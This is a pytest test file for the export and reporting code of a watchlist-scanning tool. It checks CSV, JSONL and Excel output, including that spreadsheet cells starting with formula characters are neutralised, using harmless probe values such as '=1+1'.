def test_csv_has_the_matches_rows(seed_result, tmp_path):
    path = write_csv(seed_result, tmp_path / "m.csv", ruleset=RULESET)
    with open(path, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[0] == list(MATCH_COLUMNS)
    sheet = values(load(write_report(seed_result, RULESET, tmp_path / "r.xlsx"))["Matches"])
    assert len(rows) == len(sheet)
    assert [r[:4] for r in rows[1:]] == [[str(v) for v in r[:4]] for r in sheet[1:]]
    kexin = next(dict(zip(rows[0], r)) for r in rows if r[3] == "entity.kexin")
    assert kexin["Context"] == KEXIN_SENTENCE
    assert kexin["Source/List"] == "Demo watchlist #K-1"
    assert kexin["Link"] == SEED.resolve().as_uri()
    assert (kexin["Line"], kexin["Start"], kexin["Decision"]) == ("12", "2823", "")
    dji = next(dict(zip(rows[0], r)) for r in rows if r[3] == "entity.dji")
    assert dji["Also on"] == "entity.dji-ns-cmic (OFAC NS-CMIC #32562)"


def test_csv_neutralises_formulas(tmp_path):
    context = "-5 kg of =1+1 and @SUM(A1) shipped"
    match = crafted_match(context, "=1+1", term="+44 20 7946", rule_name="\tTab Corp",
                          document="@crafted.txt")
    result, _ = crafted_result(match)
    with open(write_csv(result, tmp_path / "m.csv"), encoding="utf-8", newline="") as handle:
        header, row = list(csv.reader(handle))
    row = dict(zip(header, row))
    assert (row["Document"], row["Rule"], row["Matched text"], row["Context"], row["Term"]) == (
        "'@crafted.txt", "'\tTab Corp", "'=1+1", "'" + context, "'+44 20 7946")
    assert row["Line"] == "1" and row["Source/List"] == ""  # no ruleset given


def test_jsonl_has_the_matches_rows(seed_result, tmp_path):
    path = write_jsonl(seed_result, tmp_path / "m.jsonl", ruleset=RULESET)
    records = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    assert len(records) == len(seed_result.matches)
    assert all(list(r) == [*JSON_KEYS, "context_match_start", "context_match_end"] for r in records)
    kexin = next(r for r in records if r["rule_id"] == "entity.kexin")
    assert kexin == {
        "document": SEED_DOC, "line": 12, "category": "entity", "rule_id": "entity.kexin",
        "rule": "Shenzhen Kexin Smart Development", "severity": "high",
        "matched_text": "Shenzhen Kexin Smart Development", "context": KEXIN_SENTENCE,
        "column": 161, "start": 2823, "end": 2855, "term": "Shenzhen Kexin Smart Development",
        "source": "Demo watchlist #K-1", "also_on": [], "repeated": "",
        "link": SEED.resolve().as_uri(), "decision": "", "note": "",
        "context_match_start": 160, "context_match_end": 192,
    }
    dji = next(r for r in records if r["rule_id"] == "entity.dji")
    assert dji["also_on"] == [{"rule_id": "entity.dji-ns-cmic", "source": "OFAC NS-CMIC #32562"}]
    copy = next(r for r in records if r["document"] == "syndicated/copy.txt")
    assert copy["repeated"] == f"{SEED_DOC}:12"


def test_jsonl_keeps_text_verbatim(tmp_path):
    context = "=1+1\x07 Acme " + "x" * 40_000 + " \ud800end"
    result, _ = crafted_result(crafted_match(context, "Acme"))
    (record,) = [json.loads(line) for line in
                 write_jsonl(result, tmp_path / "m.jsonl").read_text(encoding="utf-8").splitlines()]
    assert record["context"] == context.replace("\ud800", "\ufffd")


def test_exports_are_atomic(seed_result, tmp_path):
    with pytest.raises(ReportError, match="does not exist"):
        write_csv(seed_result, tmp_path / "missing" / "m.csv")
    with pytest.raises(ReportError, match="does not exist"):
        write_jsonl(seed_result, tmp_path / "missing" / "m.jsonl")
    assert list(tmp_path.iterdir()) == []


# --- Text summary --------------------------------------------------------------------------------

def test_format_summary(seed_result, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    assert format_summary(seed_result, tmp_path / "reports" / "scan.xlsx",
                          also_written=[Path("reports/scan.csv")]) == (
        "Documents: 2 scanned, 1 skipped, 1 failed\n"
        "  failed seeds/broken.txt: permission denied\n"
        "  skipped seeds/photo.jpg: not a text file\n"
        "Mentions: 44 (41 unique): entity 15, good 23, phrase 6; 1 suppressed\n"
        f"Most serious: critical: SZ DJI Technology at {SEED_DOC}:6\n"
        "Report: reports/scan.xlsx\n"
        "Also written: reports/scan.csv"
    )


def test_format_summary_of_an_empty_run():
    result = make_result([], [document("quiet.txt", "/data/quiet.txt", "Nothing.")])
    assert format_summary(result) == (
        "Documents: 1 scanned, 0 skipped, 0 failed\n"
        "Mentions: 0: entity 0, good 0, phrase 0; 0 suppressed"
    )


@pytest.mark.parametrize("module", ["audit", "cells", "excel", "exports", "files", "rows",
                                    "stats"])
def test_docstring_examples(module):
    import doctest
    import importlib

    tested = importlib.import_module(f"watchlist_extractor.reporting.{module}")
    failed, attempted = doctest.testmod(tested, optionflags=doctest.ELLIPSIS)
    assert failed == 0 and attempted > 0


# --- Streamed rows (sheetxml) ---------------------------------------------------------------------

def test_streamed_rows_read_back_as_written(tmp_path):
    from io import BytesIO

    from watchlist_extractor.reporting.sheetxml import RowsXml, splice_rows

    workbook = openpyxl.Workbook(write_only=True)
    sheet = workbook.create_sheet("Rows")
    bold = WriteOnlyCell(sheet, "x")
    bold.font = Font(bold=True)
    rows = RowsXml(lambda look: workbook._cell_styles.add(bold._style))
    tricky = ["A & B <ltd> > C", "  leading and trailing  ", "line\r\nbreak", "=1+1", "#N/A",
              "Кексин", "\u2019quoted\u2019"]
    rows.append([(t, None) for t in tricky])
    rows.append([(3, None), (2.5, "bold"), (True, None), None, (None, "bold"), (None, None)])
    rows.append([(CellRichText(["before ", TextBlock(excel.HIGHLIGHT, "A&B"), " after"]), None)],
                height=45)
    rows.append([])
    package = BytesIO()
    workbook.save(package)
    package.seek(0)
    path = tmp_path / "rows.xlsx"
    splice_rows(package, str(path), {"xl/worksheets/sheet1.xml": rows})

    ws = load(path, rich=True)["Rows"]
    first = [c.value for c in ws[1]]
    assert first == tricky  # escaped, spaces kept, "\r" kept as a character reference
    assert all(c.data_type == "s" for c in ws[1])
    assert [c.value for c in ws[2]][:3] == [3, 2.5, True]
    assert ws["B2"].font.b and ws["E2"].font.b and ws["E2"].value is None
    assert rich_runs(ws["A3"].value) == [("before ", False), ("A&B", True), (" after", False)]
    assert ws.row_dimensions[3].height == 45
    assert openpyxl.load_workbook(path, read_only=True)["Rows"].max_row == 4
    with pytest.raises(TypeError, match="cannot write a dict"):
        rows.append([({"not": "a cell value"}, None)])
    rows.close()
